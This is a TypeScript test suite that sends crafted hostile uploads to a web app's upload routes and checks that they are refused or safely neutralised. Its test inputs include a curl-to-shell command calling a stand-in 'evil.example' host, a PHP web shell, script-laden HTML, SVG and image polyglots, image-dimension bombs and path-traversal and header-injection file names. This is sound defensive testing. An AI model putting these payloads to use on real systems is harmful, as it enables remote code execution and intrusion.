/**
 * Security suite 11 (uploads). Crafted files go through the real routes (POST /api/uploads
 * multipart, POST /api/uploads/img base64 JSON) as a signed-in member; every one is refused with
 * the spec's status and message and leaves the R2 object count and the uploads rows unchanged.
 * Hostile names may be accepted (the stored key never uses them): then the key is ours, the shown
 * name is cleaned and the served Content-Disposition is safe. Every served file carries nosniff
 * and a sandboxing CSP; anything but an image is a download.
 *
 * Policies decided here:
 * - Images must be whole on both routes: nothing after PNG's IEND, JPEG's EOI or GIF's trailer,
 *   and only well-formed GIF blocks, so script behind an image header is refused. A file that
 *   IS a whole image and also parses as something else (a GIF whose width bytes open a JS
 *   comment, a JPEG comment segment holding HTML, a PDF holding HTML) cannot be told apart by
 *   structure: it is accepted and served inert — its stored type, nosniff, a sandbox CSP, and
 *   anything that is not an image as an attachment. Those are counted apart below.
 * - Pixel limits: no side over 20000 px and at most 50 megapixels, every frame and icon entry.
 * - A .txt holding a shell script or HTML is plain text by design (served as text/plain,
 *   attachment, nosniff), so scripts are tried under image and .sh names.
 * - Office files (docx, xlsx, pptx) are ZIPs: the name picks the format, and the central directory
 *   (read from the end of the file) must hold [Content_Types].xml and that format's part folder
 *   (word/, xl/, ppt/). Any other ZIP under an Office name is refused like any archive.
 * - Size: a declared Content-Length over the route's limit (the largest file a kind on it may send,
 *   plus room for the form or the base64 JSON around it) is a 413 before a byte is read; a body
 *   without one (chunked) is counted as it streams and refused as soon as it passes the limit.
 * - Private files (forum files: attached ones follow their thread and the forum's on/off switch,
 *   unattached ones are their uploader's) are served `private, no-store`; public files (event
 *   images, avatars, site branding…) keep the long public cache. See tests/worker/forum-attachments.
 */
import { env, exports } from 'cloudflare:workers'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { MAX_FILE_UPLOAD_BYTES, type UploadResource } from '@worker/uploads/uploads.schemas'
import { createCustomRole, createUser, mintSession, signedInAs } from '../../helpers/factories'
import { createForumCategory, forumMember, switchForumOff } from '../../helpers/forum-factories'
import { call, ORIGIN, type Session } from '../../helpers/http'
import { base64, bytesOf, concat, GIF, icoOf, JPEG, PNG } from '../../helpers/image-bytes'
import { minimalDocx, minimalXlsx, plainZip, zipOf } from '../../helpers/zip-bytes'
import { reportFigure } from './support/figure'

const UNSUPPORTED = 'Unsupported file type'
const NOT_CONVERTIBLE = "Image couldn't be converted to the correct format"
const MIB = 1024 * 1024

// ---- Files, built byte by byte ----------------------------------------------------------------

/** The 1×1 PNG with its IHDR claiming width × height (the header is all a decoder sizes from). */
const pngClaiming = (width: number, height: number) => {
  const out = PNG.slice()
  new DataView(out.buffer).setUint32(16, width)
  new DataView(out.buffer).setUint32(20, height)
  return out
}
/** The 1×1 GIF with its logical screen (and optionally its one frame) claiming a size. */
const gifClaiming = (width: number, height: number, where: 'screen' | 'frame') => {
  const out = GIF.slice()
  const at = where === 'screen' ? 6 : 32 // the image descriptor starts at 27 (0x2C), size at +5
  new DataView(out.buffer).setUint16(at, width, true)
  new DataView(out.buffer).setUint16(at + 2, height, true)
  return out
}
/** The 1×1 JPEG with its SOF0 frame header claiming a size. */
const jpegClaiming = (width: number, height: number) => {
  const out = JPEG.slice()
  new DataView(out.buffer).setUint16(25, height)
  new DataView(out.buffer).setUint16(27, width)
  return out
}
/** An extended WebP (VP8X) declaring a canvas, followed by a tiny lossless frame. */
const webpClaiming = (width: number, height: number) => {
  const vp8x = new Uint8Array(10)
  const w = width - 1
  const h = height - 1
  vp8x.set(
    [w & 0xff, (w >> 8) & 0xff, (w >> 16) & 0xff, h & 0xff, (h >> 8) & 0xff, (h >> 16) & 0xff],
    4,
  )
  const vp8l = new Uint8Array([0x2f, 0, 0, 0, 0, 0])
  const chunks = concat('VP8X', [10, 0, 0, 0], vp8x, 'VP8L', [6, 0, 0, 0], vp8l)
  const size = 4 + chunks.length
  return concat('RIFF', [size & 0xff, (size >> 8) & 0xff, 0, 0], 'WEBP', chunks)
}

const EXE = concat(
  [0x4d, 0x5a, 0x90, 0x00, 0x03, 0, 0, 0, 0x04, 0],
  new Uint8Array(200),
  'This program cannot be run in DOS mode.',
)
const ELF = concat([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0], new Uint8Array(120))
const JAVA_CLASS = concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34], new Uint8Array(40))
const SHELL = bytesOf('#!/bin/sh\ncurl -s http://evil.example/x | sh\n')
const PHP = bytesOf('<?php system($_GET["c"]); ?>\n')
const HTML = bytesOf(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
)
const SVG = bytesOf(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
)
const SVG_PROLOG = bytesOf(
  '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' +
    '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">alert(1)</script></svg>',
)
/** A gzip stream header (svgz): magic 1f 8b, deflate, then compressed bytes. */
const SVGZ = concat([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x03], new Uint8Array(60).fill(0x5a))
const ZIP = concat([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0], new Uint8Array(40), 'shell.php<?php ?>')
const BMP = concat('BM', new Uint8Array(56))
/** Script behind a GIF header: valid JS (GIF89a = alert(1)), not a valid GIF. */
const GIF_JS = bytesOf('GIF89a/*\x00\x00\x00\x00*/=alert(document.domain)//;')
/** A JPEG with a ZIP (holding PHP) appended after its EOI. */
const JPEG_ZIP = concat(JPEG, ZIP, [0x50, 0x4b, 0x05, 0x06], new Uint8Array(18))
const PNG_HTML = concat(PNG, '<html><script>alert(1)</script></html>')
const GIF_HTML = concat(GIF, '<script>alert(1)</script>')
/** HTML first, a PDF afterwards: the PDF magic is not at offset 0. */
const HTML_PDF = bytesOf(
  '<html><!--\n%PDF-1.4\n1 0 obj<<>>endobj\n--><script>alert(1)</script></html>\n%%EOF',
)

// Whole images (and a PDF) that also parse as something else: accepted, served inert.
/** A whole GIF whose width bytes open a JS comment closed in a comment extension; ';' is the trailer. */
const GIF_JS_VALID = concat(
  'GIF89a/*',
  [0x0a, 0x00, 0x00, 0x00, 0x00],
  [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00],
  [0x21, 0xfe, 13],
  '*/=alert(1)//',
  [0x00, 0x3b],
)
const JPEG_COMMENT_HTML = (() => {
  const html = bytesOf('<html><script>alert(1)</script></html>')
  return concat([0xff, 0xd8, 0xff, 0xfe, 0, html.length + 2], html, JPEG.subarray(2))
})()
const PDF_HTML = bytesOf(
  '%PDF-1.4\n1 0 obj<</Length 44>>stream\n<html><script>alert(1)</script></html>\nendstream endobj\n%%EOF\n',
)

// ---- Calls ------------------------------------------------------------------------------------

type Result = {
  status: number
  body: { data?: UploadResource; message?: string; errors?: Record<string, string[]> }
}

const send = async (
  init: RequestInit & { headers: Record<string, string> },
  path: string,
): Promise<Result> => {
  const response = await exports.default.fetch(`${ORIGIN}${path}`, { method: 'POST', ...init })
  const text = await response.text()
  return { status: response.status, body: text ? (JSON.parse(text) as Result['body']) : {} }
}
const postFile = (
  session: Session,
  bytes: Uint8Array,
  name: string,
  type = 'application/octet-stream',
) => {
  const form = new FormData()
  form.set('file', new File([new Uint8Array(bytes)], name, { type }))
  form.set('kind', 'event')
  return call('/api/uploads', { form, session }) as Promise<Result>
}
const postImage = (session: Session, json: Record<string, unknown>) =>
  call('/api/uploads/img', { json, session }) as Promise<Result>

/** A body streamed in 64 KiB chunks with no Content-Length (Transfer-Encoding: chunked). */
const chunked = (parts: (() => Uint8Array)[], total: number) => {
  let sent = 0
  let index = 0
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (index < parts.length) {
        const part = parts[index++]!()
        sent += part.length
        controller.enqueue(part)
      } else if (sent >= total) controller.close()
      else {
        const n = Math.min(64 * 1024, total - sent)
        sent += n
        controller.enqueue(new Uint8Array(n).fill(0x41))
      }
    },
  })
}

let member: Session
let admin: Session

const objectKeys = async () => {
  const keys: string[] = []
  let cursor: string | undefined
  do {
    const page = await env.UPLOADS.list({ cursor, limit: 1000 })
    keys.push(...page.objects.map((o) => o.key))
    cursor = page.truncated ? page.cursor : undefined
  } while (cursor)
  return keys
}
const uploadRows = async () =>
  (await env.DB.prepare('SELECT count(*) AS n FROM uploads').first<{ n: number }>())!.n
const storeState = async () => ({ objects: (await objectKeys()).length, rows: await uploadRows() })

type Limits = { maxUploadSize: number; maxImageUploadSize: number; maxForumUploadSize?: number }
const setLimits = async (json: Limits) => {
  expect(
    (await call('/api/settings', { method: 'PUT', session: admin, json: { settings: json } }))
      .status,
  ).toBe(200)
}
/** The defaults: files up to the cap a Worker request can carry, images 2 MB. */
const DEFAULT_LIMITS: Limits = {
  maxUploadSize: MAX_FILE_UPLOAD_BYTES,
  maxForumUploadSize: MAX_FILE_UPLOAD_BYTES,
  maxImageUploadSize: 2_097_152,
}

// ---- Figures ----------------------------------------------------------------------------------

let crafted = 0
let refused = 0
let accepted = 0
let storeChanged = 0
let names = 0
let inert = 0
let servedChecks = 0
let oversize = 0
let privateChecks = 0

reportFigure(
  'uploads (suite 11)',
  () =>
    `${crafted} crafted files, ${refused} refused, ${accepted} accepted, R2 objects ${storeChanged === 0 ? 'unchanged' : `CHANGED ${storeChanged}×`}; ` +
    `${names} hostile names accepted with our key, a cleaned name and a safe Content-Disposition; ` +
    `${inert} whole-file polyglots accepted and served inert; ${servedChecks} served-file checks; ` +
    `${oversize} oversize bodies (by header and chunked, every upload route) refused with 413 before being read whole; ` +
    `${privateChecks} private-file checks (no shared cache, off with the forum)`,
)

beforeAll(async () => {
  member = (await signedInAs('member')).session
  admin = (await signedInAs('admin')).session
})

type Crafted = {
  name: string
  send: () => Promise<Result>
  status: 413 | 422
  /** The field and message of a 422. */
  error?: [field: 'file' | 'data', message: string]
}

const viaFile = (
  name: string,
  bytes: Uint8Array,
  filename: string,
  message: string,
  type?: string,
): Crafted => ({
  name: `${name} (multipart "${filename}")`,
  send: () => postFile(member, bytes, filename, type),
  status: 422,
  error: ['file', message],
})
const viaImg = (name: string, data: string, message: string): Crafted => ({
  name: `${name} (base64 JSON)`,
  send: () => postImage(member, { data, path: 'event', filename: 'photo.png' }),
  status: 422,
  error: ['data', message],
})

/** Sends one crafted file and says how it was answered and whether R2 or D1 changed. */
const attempt = async (c: Crafted) => {
  crafted += 1
  const before = await storeState()
  const res = await c.send()
  const after = await storeState()
  if (res.status < 300) accepted += 1
  const unchanged = after.objects === before.objects && after.rows === before.rows
  if (!unchanged) storeChanged += 1
  const [field, message] = c.error ?? ['message', 'Request was too large']
  return {
    outcome: {
      status: res.status,
      error: field === 'message' ? res.body.message : res.body.errors?.[field],
      store: unchanged
        ? 'unchanged'
        : `R2 ${before.objects}→${after.objects}, rows ${before.rows}→${after.rows}`,
    },
    expected: {
      status: c.status,
      error: field === 'message' ? message : [message],
      store: 'unchanged',
    },
  }
}

const CRAFTED: Crafted[] = [
  // Extension against magic bytes.
  viaFile('a Windows executable', EXE, 'holiday.png', UNSUPPORTED, 'image/png'),
  viaFile('a Windows executable', EXE, 'holiday.jpg', UNSUPPORTED, 'image/jpeg'),
  viaFile('a Windows executable', EXE, 'minutes.pdf', UNSUPPORTED, 'application/pdf'),
  viaFile('a Windows executable', EXE, 'setup.exe', UNSUPPORTED),
  viaFile('an ELF binary', ELF, 'avatar.png', UNSUPPORTED),
  viaFile('an ELF binary (NUL bytes are not text)', ELF, 'readme.txt', UNSUPPORTED, 'text/plain'),
  viaFile('a Java class', JAVA_CLASS, 'photo.gif', UNSUPPORTED),
  viaFile('a shell script', SHELL, 'banner.png', UNSUPPORTED),
  viaFile('a shell script', SHELL, 'install.sh', UNSUPPORTED),
  viaFile('a PHP script', PHP, 'shell.php.jpg', UNSUPPORTED, 'image/jpeg'),
  viaFile('an HTML page', HTML, 'photo.jpg', UNSUPPORTED, 'image/jpeg'),
  viaFile('an HTML page', HTML, 'index.html', UNSUPPORTED, 'text/html'),
  viaFile('an SVG with script', SVG, 'drawing.svg', UNSUPPORTED, 'image/svg+xml'),
  viaFile('an SVG with script', SVG, 'drawing.png', UNSUPPORTED, 'image/png'),
  viaFile('an SVG with an XML prolog and DOCTYPE', SVG_PROLOG, 'logo.svg', UNSUPPORTED),
  viaFile('a gzip-compressed SVG', SVGZ, 'logo.svgz', UNSUPPORTED),
  viaFile('a gzip-compressed SVG', SVGZ, 'logo.png', UNSUPPORTED),
  viaFile('a zip archive', ZIP, 'photos.png', UNSUPPORTED),
  viaFile('a bitmap', BMP, 'scan.bmp', UNSUPPORTED),
  // ZIPs under Office names: the central directory must hold that format's parts.
  viaFile('a plain ZIP', plainZip(), 'report.docx', UNSUPPORTED),
  viaFile('a plain ZIP', plainZip(), 'budget.xlsx', UNSUPPORTED),
  viaFile('a plain ZIP', plainZip(), 'slides.pptx', UNSUPPORTED),
  viaFile('a spreadsheet (xl/ parts)', minimalXlsx(), 'report.docx', UNSUPPORTED),
  viaFile('a Word document (word/ parts)', minimalDocx(), 'slides.pptx', UNSUPPORTED),
  viaFile(
    'word/ parts without [Content_Types].xml',
    zipOf({ 'word/document.xml': '<w:document/>' }),
    'report.docx',
    UNSUPPORTED,
  ),
  viaFile(
    'a Word document cut before its end record',
    minimalDocx().subarray(0, -22),
    'report.docx',
    UNSUPPORTED,
  ),
  viaFile('a ZIP local header and no directory', ZIP, 'report.docx', UNSUPPORTED),
  viaImg('an executable', base64(EXE), UNSUPPORTED),
  viaImg(
    'an HTML page in a data: URL claiming image/png',
    `data:image/png;base64,${base64(HTML)}`,
    UNSUPPORTED,
  ),
  viaImg('an SVG with script', `data:image/svg+xml;base64,${base64(SVG)}`, UNSUPPORTED),
  viaImg('a WebP (not an image type this route takes)', base64(webpClaiming(1, 1)), UNSUPPORTED),
  // Polyglots that are not whole images.
  viaFile('script behind a GIF header', GIF_JS, 'pixel.gif', NOT_CONVERTIBLE),
  viaImg('script behind a GIF header', base64(GIF_JS), NOT_CONVERTIBLE),
  viaFile('a JPEG with a ZIP (PHP) appended', JPEG_ZIP, 'photo.jpg', NOT_CONVERTIBLE),
  viaImg('a JPEG with a ZIP (PHP) appended', base64(JPEG_ZIP), NOT_CONVERTIBLE),
  viaFile('a PNG with HTML after IEND', PNG_HTML, 'dot.png', NOT_CONVERTIBLE),
  viaImg('a PNG with HTML after IEND', base64(PNG_HTML), NOT_CONVERTIBLE),
  viaFile('a GIF with script after its trailer', GIF_HTML, 'dot.gif', NOT_CONVERTIBLE),
  viaFile('an HTML page with a PDF inside', HTML_PDF, 'minutes.pdf', UNSUPPORTED),
  // Empty, one byte, truncated.
  viaFile('zero bytes', new Uint8Array(0), 'empty.png', UNSUPPORTED),
  viaFile('zero bytes', new Uint8Array(0), 'empty.txt', UNSUPPORTED),
  viaImg('an empty data: URL', 'data:image/png;base64,', NOT_CONVERTIBLE),
  viaImg('an empty string', '', NOT_CONVERTIBLE),
  viaFile('one byte', new Uint8Array([0x89]), 'dot.png', UNSUPPORTED),
  viaImg('one byte', base64(new Uint8Array([0xff])), UNSUPPORTED),
  viaFile('a PNG cut inside IHDR', PNG.subarray(0, 20), 'dot.png', NOT_CONVERTIBLE),
  viaImg('a PNG cut inside IHDR', base64(PNG.subarray(0, 20)), NOT_CONVERTIBLE),
  viaFile('a JPEG cut after its JFIF header', JPEG.subarray(0, 20), 'photo.jpg', NOT_CONVERTIBLE),
  viaImg('a JPEG cut after its JFIF header', base64(JPEG.subarray(0, 20)), NOT_CONVERTIBLE),
  viaFile('a GIF cut in its screen descriptor', GIF.subarray(0, 9), 'dot.gif', NOT_CONVERTIBLE),
  viaImg('a GIF cut before its trailer', base64(GIF.subarray(0, GIF.length - 1)), NOT_CONVERTIBLE),
  viaImg(
    'an icon whose entry points past the end',
    base64(icoOf(PNG).subarray(0, 30)),
    NOT_CONVERTIBLE,
  ),
  // Huge pixel dimensions in a small file (decompression bombs).
  viaFile(
    'a PNG claiming 100000×100000 px',
    pngClaiming(100_000, 100_000),
    'bomb.png',
    NOT_CONVERTIBLE,
  ),
  viaImg('a PNG claiming 100000×100000 px', base64(pngClaiming(100_000, 100_000)), NOT_CONVERTIBLE),
  viaImg('a PNG claiming 20001×1 px', base64(pngClaiming(20_001, 1)), NOT_CONVERTIBLE),
  viaFile(
    'a PNG claiming 8000×8000 px (64 MP)',
    pngClaiming(8000, 8000),
    'big.png',
    NOT_CONVERTIBLE,
  ),
  viaImg(
    'a GIF screen claiming 65535×65535 px',
    base64(gifClaiming(65_535, 65_535, 'screen')),
    NOT_CONVERTIBLE,
  ),
  viaFile(
    'a GIF frame claiming 65535×65535 px',
    gifClaiming(65_535, 65_535, 'frame'),
    'bomb.gif',
    NOT_CONVERTIBLE,
  ),
  viaImg('a JPEG claiming 65535×65535 px', base64(jpegClaiming(65_535, 65_535)), NOT_CONVERTIBLE),
  viaFile('a JPEG claiming 60000×800 px', jpegClaiming(60_000, 800), 'wide.jpg', NOT_CONVERTIBLE),
  viaImg(
    'an icon holding a PNG claiming 100000×100000 px',
    base64(icoOf(pngClaiming(100_000, 100_000))),
    NOT_CONVERTIBLE,
  ),
  viaFile(
    'a WebP canvas claiming 100000×100000 px',
    webpClaiming(100_000, 100_000),
    'bomb.webp',
    NOT_CONVERTIBLE,
  ),
  viaImg('a PNG claiming 0×0 px', base64(pngClaiming(0, 0)), NOT_CONVERTIBLE),
  // Far over the image route's limit (2 MB of image in base64 JSON), declared or streamed.
  {
    name: 'a 13 MiB JSON body with its Content-Length',
    send: () =>
      send(
        {
          headers: { origin: ORIGIN, cookie: member.cookie!, 'content-type': 'application/json' },
          body: JSON.stringify({ data: 'A'.repeat(13 * MIB), path: 'event' }),
        },
        '/api/uploads/img',
      ),
    status: 413,
    error: ['data', 'Maximum filesize is 2Mb'],
  },
  {
    name: 'a 13 MiB chunked JSON body without a Content-Length',
    send: () =>
      send(
        {
          headers: { origin: ORIGIN, cookie: member.cookie!, 'content-type': 'application/json' },
          body: chunked(
            [() => bytesOf('{"path":"event","data":"data:image/png;base64,')],
            13 * MIB,
          ),
        },
        '/api/uploads/img',
      ),
    status: 413,
    error: ['data', 'Maximum filesize is 2Mb'],
  },
]

describe('crafted files are refused and store nothing', () => {
  it('the corpus holds at least 30 crafted files', () => {
    expect(CRAFTED.length).toBeGreaterThanOrEqual(30)
  })

  it.each(CRAFTED)(
    'refuses $name',
    async (c) => {
      const { outcome, expected } = await attempt(c)
      expect(outcome, c.name).toEqual(expected)
      refused += 1
    },
    30_000,
  )
})

describe('files over the size limits set in the settings', () => {
  // 0.5 MiB each for these tests, then back to the defaults.
  beforeAll(() =>
    setLimits({ maxUploadSize: MIB / 2, maxForumUploadSize: MIB / 2, maxImageUploadSize: MIB / 2 }),
  )
  afterAll(() => setLimits(DEFAULT_LIMITS))

  /** A whole PNG of `size` bytes: the 1×1 image padded with a private ancillary chunk. */
  const pngOfSize = (size: number) => {
    const iend = PNG.length - 12
    const padding = size - PNG.length - 12
    const chunk = new Uint8Array(12 + padding)
    new DataView(chunk.buffer).setUint32(0, padding)
    chunk.set(bytesOf('prVt'), 4)
    return concat(PNG.subarray(0, iend), chunk, PNG.subarray(iend))
  }
  const boundary = 'guildhall-test-boundary'
  const multipartHead = (name: string) =>
    bytesOf(
      `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nevent\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n`,
    )

  const OVERSIZE: Crafted[] = [
    viaFile(
      'a text file one byte over maxUploadSize',
      new Uint8Array(MIB / 2 + 1).fill(0x61),
      'notes.txt',
      'Maximum filesize is 512Kb',
    ),
    // Its form's Content-Length passes the limit and the form's room: refused before it is read.
    {
      ...viaFile('a PNG of 1 MiB', pngOfSize(MIB), 'poster.png', 'Maximum filesize is 512Kb'),
      status: 413,
    },
    viaImg(
      'a PNG one byte over maxImageUploadSize',
      base64(pngOfSize(MIB / 2 + 1)),
      'Maximum filesize is 512Kb',
    ),
    {
      name: 'a chunked multipart body over maxUploadSize',
      send: () => {
        const tail = bytesOf(`\r\n--${boundary}--\r\n`)
        const head = multipartHead('streamed.txt')
        const fill = MIB - head.length - tail.length
        const body = chunked(
          [() => head, () => new Uint8Array(fill).fill(0x61), () => tail],
          head.length + fill + tail.length,
        )
        return send(
          {
            headers: {
              origin: ORIGIN,
              cookie: member.cookie!,
              'content-type': `multipart/form-data; boundary=${boundary}`,
            },
            body,
          },
          '/api/uploads',
        )
      },
      status: 413,
      error: ['file', 'Maximum filesize is 512Kb'],
    },
  ]

  it.each(OVERSIZE)(
    'refuses $name',
    async (c) => {
      const { outcome, expected } = await attempt(c)
      expect(outcome, c.name).toEqual(expected)
      refused += 1
    },
    30_000,
  )

  it('still takes a file exactly at the limit', async () => {
    expect(
      (await postImage(member, { data: base64(pngOfSize(MIB / 2)), path: 'event' })).status,
    ).toBe(201)
    expect((await postFile(member, new Uint8Array(MIB / 2).fill(0x61), 'fits.txt')).status).toBe(
      201,
    )
  })
})

describe('oversize by header and by chunked body, on every upload route', () => {
  const LIMIT = MIB / 2
  const MESSAGE = 'Maximum filesize is 512Kb'
  beforeAll(() =>
    setLimits({ maxUploadSize: LIMIT, maxForumUploadSize: LIMIT, maxImageUploadSize: LIMIT }),
  )
  afterAll(() => setLimits(DEFAULT_LIMITS))

  const boundary = 'guildhall-oversize'
  const formHead = (kind: string) =>
    bytesOf(
      `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\n${kind}\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n`,
    )
  const formTail = bytesOf(`\r\n--${boundary}--\r\n`)
  type Route = {
    name: string
    path: string
    type: string
    head: Uint8Array
    tail: Uint8Array
    field: 'file' | 'data'
  }
  const ROUTES: Route[] = [
    ...['event', 'forum'].map((kind) => ({
      name: `POST /api/uploads (kind ${kind})`,
      path: '/api/uploads',
      type: `multipart/form-data; boundary=${boundary}`,
      head: formHead(kind),
      tail: formTail,
      field: 'file' as const,
    })),
    {
      name: 'POST /api/uploads/img',
      path: '/api/uploads/img',
      type: 'application/json',
      head: bytesOf('{"path":"event","data":"data:image/png;base64,'),
      tail: bytesOf('"}'),
      field: 'data',
    },
  ]

  /** `head`, filler up to `total` bytes, `tail`: streamed in 64 KiB chunks, counting what was pulled. */
  const counted = (route: Route, total: number) => {
    let pulled = 0
    const fill = total - route.head.length - route.tail.length
    let filled = 0
    let sentTail = false
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        let chunk: Uint8Array
        if (pulled === 0) chunk = route.head
        else if (filled < fill) {
          chunk = new Uint8Array(Math.min(64 * 1024, fill - filled)).fill(0x41)
          filled += chunk.length
        } else if (!sentTail) {
          chunk = route.tail
          sentTail = true
        } else return controller.close()
        pulled += chunk.length
        controller.enqueue(chunk)
      },
    })
    return { body, pulled: () => pulled }
  }
  const post = async (route: Route, body: ReadableStream<Uint8Array>, length?: number) => {
    const res = await exports.default.fetch(`${ORIGIN}${route.path}`, {
      method: 'POST',
      headers: {
        origin: ORIGIN,
        cookie: member.cookie!,
        'content-type': route.type,
        ...(length === undefined ? {} : { 'content-length': String(length) }),
      },
      body,
    })
    const text = await res.text()
    const json = (text ? JSON.parse(text) : {}) as Result['body']
    return { status: res.status, message: json.message, errors: json.errors }
  }

  it.each(ROUTES)(
    '$name: a declared 2 GB Content-Length is a 413 before the body is read',
    async (route) => {
      const before = await storeState()
      // The stream holds 4 MiB; the header claims 2 GB. Nothing past the first chunk may be read.
      const stream = counted(route, 4 * MIB)
      const res = await post(route, stream.body, 2 * 1024 ** 3)
      expect(res).toEqual({ status: 413, message: MESSAGE, errors: { [route.field]: [MESSAGE] } })
      expect(stream.pulled()).toBeLessThanOrEqual(128 * 1024)
      expect(await storeState()).toEqual(before)
      oversize += 1
    },
    30_000,
  )

  it.each(ROUTES)(
    '$name: a chunked body over the limit is a 413 once it passes the limit, and R2 is unchanged',
    async (route) => {
      const before = await storeState()
      const stream = counted(route, 16 * MIB)
      const res = await post(route, stream.body)
      expect(res).toEqual({ status: 413, message: MESSAGE, errors: { [route.field]: [MESSAGE] } })
      // Reading stopped soon after the limit (base64 is 4/3 of the image, plus the form's room).
      expect(stream.pulled()).toBeLessThan(2 * MIB)
      expect(await storeState()).toEqual(before)
      oversize += 1
    },
    30_000,
  )

  it('still stores a chunked multipart file under the limit', async () => {
    const route = ROUTES[0]!
    const res = await post(route, counted(route, LIMIT - 1024).body)
    expect(res.status).toBe(201)
  })
})

describe('large but sane images are still taken', () => {
  it.each([
    [
      'a PNG of 20000×2500 px (50 MP, the limit)',
      () => postFile(member, pngClaiming(20_000, 2500), 'panorama.png'),
    ],
    [
      'a JPEG of 8000×6000 px (48 MP)',
      () => postImage(member, { data: base64(jpegClaiming(8000, 6000)), path: 'event' }),
    ],
    [
      'a GIF of 4000×3000 px',
      () => postImage(member, { data: base64(gifClaiming(4000, 3000, 'screen')), path: 'event' }),
    ],
  ])('accepts %s', async (_name, post) => {
    expect((await post()).status).toBe(201)
  })
})

describe('hostile names: the stored key is ours, the name is cleaned, the download header is safe', () => {
  const KEY =
    /^images\/event\/\d{4}\/\d{2}\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.png$/
  // Control characters, bidi controls, path separators, lone surrogates.
  const UNSAFE = /[\p{Cc}\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069/\\]/u
  const LONE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/
  /** inline; filename="printable ASCII without quote or backslash"[; filename*=UTF-8''percent-encoded] */
  const SAFE_DISPOSITION =
    /^inline; filename="[\x20\x21\x23-\x5b\x5d-\x7e]*"(; filename\*=UTF-8''[A-Za-z0-9\-_.!~%]+)?$/

  /** What is tried, the name sent, and the name shown when it arrives exactly (the JSON route). */
  const NAMES: [string, string, string][] = [
    ['parent directories', '../../../etc/passwd.png', '.._.._.._etc_passwd.png'],
    [
      'Windows parent directories',
      '..\\..\\Windows\\System32\\evil.png',
      '.._.._Windows_System32_evil.png',
    ],
    ['an absolute path', '/var/www/html/index.png', '_var_www_html_index.png'],
    ['a drive path', 'C:\\inetpub\\wwwroot\\shell.png', 'C:_inetpub_wwwroot_shell.png'],
    ['a NUL byte', 'avatar.png\u0000.html', 'avatar.png.html'],
    [
      'CR LF and a header',
      'dot\r\nSet-Cookie: session=stolen\r\n.png',
      'dotSet-Cookie: session=stolen.png',
    ],
    ['a right-to-left override', 'invoice\u202Egnp.exe', 'invoicegnp.exe'],
    ['bidi isolates and marks', '\u2067photo\u2069\u200F.png', 'photo.png'],
    ['DEL and C1 controls', 'a\u007f\u0085\u009bb.png', 'ab.png'],
    ['300 characters', `${'a'.repeat(296)}.png`, `${'a'.repeat(196)}.png`],
    ['300 emoji (surrogate pairs)', `${'🎉'.repeat(296)}.png`, `${'🎉'.repeat(196)}.png`],
    ['a lone surrogate', 'x\ud800y.png', 'xy.png'],
    ['one dot', '.', 'upload.png'],
    ['two dots', '..', 'upload.png'],
    ['dots and spaces', ' . .. . ', 'upload.png'],
    ['quotes and a fake parameter', 'a"; filename="evil.html', 'a"; filename="evil.html'],
    ['a backslash-escaped quote', 'a\\"b.png', 'a_"b.png'],
    ['percent-encoded traversal', '..%2F..%2Fetc%2Fpasswd.png', '..%2F..%2Fetc%2Fpasswd.png'],
    ['non-ASCII letters', 'Résumé — café ñ 日本.png', 'Résumé — café ñ 日本.png'],
  ]

  const check = async (res: Result, sentName: string) => {
    expect(res.status, JSON.stringify(res.body)).toBe(201)
    const upload = res.body.data!
    expect(upload.path).toMatch(KEY)
    expect(await env.UPLOADS.head(upload.path)).not.toBeNull()
    const shown = upload.client_filename
    expect(shown).not.toMatch(UNSAFE)
    expect(shown).not.toMatch(LONE)
    expect(Array.from(shown).length).toBeLessThanOrEqual(200)
    expect(shown).not.toMatch(/^[.\s]*$/)
    expect(shown.length).toBeGreaterThan(0)
    if (/^[.\s]*$/.test(sentName)) expect(shown).toBe('upload.png')
    const file = await exports.default.fetch(`${ORIGIN}${upload.src}`)
    expect(file.status).toBe(200)
    expect(file.headers.get('content-type')).toBe('image/png')
    expect(file.headers.get('x-content-type-options')).toBe('nosniff')
    const disposition = file.headers.get('content-disposition')!
    expect(disposition).toMatch(SAFE_DISPOSITION)
    const encoded = /filename\*=UTF-8''(.+)$/.exec(disposition)?.[1]
    // The full name comes back exactly, from filename* or (all ASCII) from filename.
    expect(encoded ? decodeURIComponent(encoded) : /filename="(.*)"/.exec(disposition)![1]).toBe(
      shown,
    )
    names += 1
    return upload
  }

  // The multipart parser refuses a raw CR, LF or NUL inside filename="…" (browsers percent-encode
  // them): a 400 that stores nothing. The exact bytes reach the service through the JSON route.
  const RAW_CONTROL = /[\r\n\0]/

  it.each(NAMES.filter(([, name]) => RAW_CONTROL.test(name)))(
    'refuses a multipart name with %s, storing nothing',
    async (_what, name) => {
      const before = await storeState()
      const res = await postFile(member, PNG, name, 'image/png')
      expect(res.status).toBe(400)
      expect(await storeState()).toEqual(before)
    },
  )

  it.each(NAMES.filter(([, name]) => !RAW_CONTROL.test(name)))(
    'names with %s (multipart)',
    async (_what, name) => {
      const before = await objectKeys()
      const res = await postFile(member, PNG, name, 'image/png')
      const upload = await check(res, name)
